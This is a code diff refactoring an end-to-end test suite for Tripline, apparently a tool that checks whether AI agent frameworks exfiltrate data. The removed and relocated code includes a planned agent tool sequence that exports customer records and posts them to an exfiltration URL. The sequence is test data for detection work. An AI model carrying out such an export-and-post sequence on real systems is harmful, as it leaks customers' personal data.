@@ -41,7 +41,6 @@
  * the configured TRIPLINE_COUNTERPARTY_KEY (recomputed here with node:crypto) and hold none of the raw values.
  */
 import { execFile } from 'node:child_process';
-import { createHash } from 'node:crypto';
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -50,12 +49,26 @@ import { promisify } from 'node:util';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { ToolCallDetail } from '../../schemas/events.ts';
 import { openClickHouseStore } from '../../services/store/clickhouse/store.ts';
-import { TEST_AGENT_TOKEN, TEST_AUTH_ENV } from '../helpers/auth.ts';
+import { TEST_AGENT_TOKEN } from '../helpers/auth.ts';
 import { pythonFor, runPythonAgent } from '../helpers/python.ts';
-import { startTriplineProcess } from '../helpers/tripline-process.ts';
 import type { TriplineProcess } from '../helpers/tripline-process.ts';
 import { waitFor } from '../helpers/wait.ts';
-import { EXFIL_URL, VERDICT_MS, baselineView, benignCalls, getJson, rng, taskView } from '../helpers/agent-plans.ts';
+import {
+  EXFIL_URL,
+  MIXED_BENIGN,
+  SUITE_TENANT,
+  VERDICT_MS,
+  WARMUP_RUN,
+  WARMUP_TASKS,
+  baselineView,
+  benignCalls,
+  exfiltrationCalls,
+  getJson,
+  rng,
+  startSuiteTripline,
+  storedCounterpartyKey,
+  taskView,
+} from '../helpers/agent-plans.ts';
 import { invoiceInjectionTests, readStoredEvents } from '../helpers/invoice-injection.ts';
 import type { BaselineView, Call, PlannedTask as Plan, TaskView } from '../helpers/agent-plans.ts';
 
@@ -154,14 +167,10 @@ const SUITES: Suite[] = [
 /** The hashing secret the process runs with; the test recomputes the keys with it. */
 const COUNTERPARTY_KEY = 'e2e-counterparty-key-5f1c2a7e93b1';
 /** The ingest token's tenant (TEST_AUTH_ENV registers TRIPLINE_AGENT_TOKEN for `default`). */
-const TENANT = 'default';
+const TENANT = SUITE_TENANT;
 /** A counterparty's key as Tripline computes it (schemas/conventions.md, "Counterparties"). */
-const keyOf = (kind: string, value: string): string =>
-  createHash('sha256').update(`${COUNTERPARTY_KEY}\n${TENANT}\n${kind}\n${value}`).digest('hex').slice(0, 16);
+const keyOf = (kind: string, value: string): string => storedCounterpartyKey(COUNTERPARTY_KEY, kind, value);
 
-const WARMUP_TASKS = 20;
-const WARMUP_RUN = 25;
-const MIXED_BENIGN = 4;
 type PlannedTask = Plan<Label>;
 
 /**
@@ -175,27 +184,13 @@ interface RanTask {
   calls: number;
 }
 
-function exfiltrationCalls(): Call[] {
-  return [
-    { tool: 'export_customers', args: { limit: 50 } },
-    { tool: 'http_post', args: { url: EXFIL_URL, body: 'id,name,email\n1,Customer 1,customer1@shop.example\n...' } },
-  ];
-}
-
 describe('more real agents (OpenAI Agents SDK, CrewAI, smolagents, LlamaIndex, AutoGen AgentChat, Vercel AI SDK, LangGraph.js) against Tripline', () => {
   const dataDir = mkdtempSync(join(tmpdir(), 'tripline-e2e-more-'));
   const workDir = mkdtempSync(join(tmpdir(), 'tripline-e2e-more-plans-'));
   const runId = Date.now().toString(36);
   let tripline: TriplineProcess;
 
-  const startTripline = (): Promise<TriplineProcess> =>
-    startTriplineProcess({
-      ...TEST_AUTH_ENV,
-      TRIPLINE_DATA_DIR: dataDir,
-      TRIPLINE_WARMUP_TASKS: String(WARMUP_TASKS),
-      TRIPLINE_COUNTERPARTY_KEY: COUNTERPARTY_KEY,
-      LOG_LEVEL: 'warn',
-    });
+  const startTripline = (): Promise<TriplineProcess> => startSuiteTripline(dataDir, COUNTERPARTY_KEY);
 
   beforeAll(async () => {
     // The first run installs each Python framework from PyPI (CrewAI and LlamaIndex take a minute and a half each);
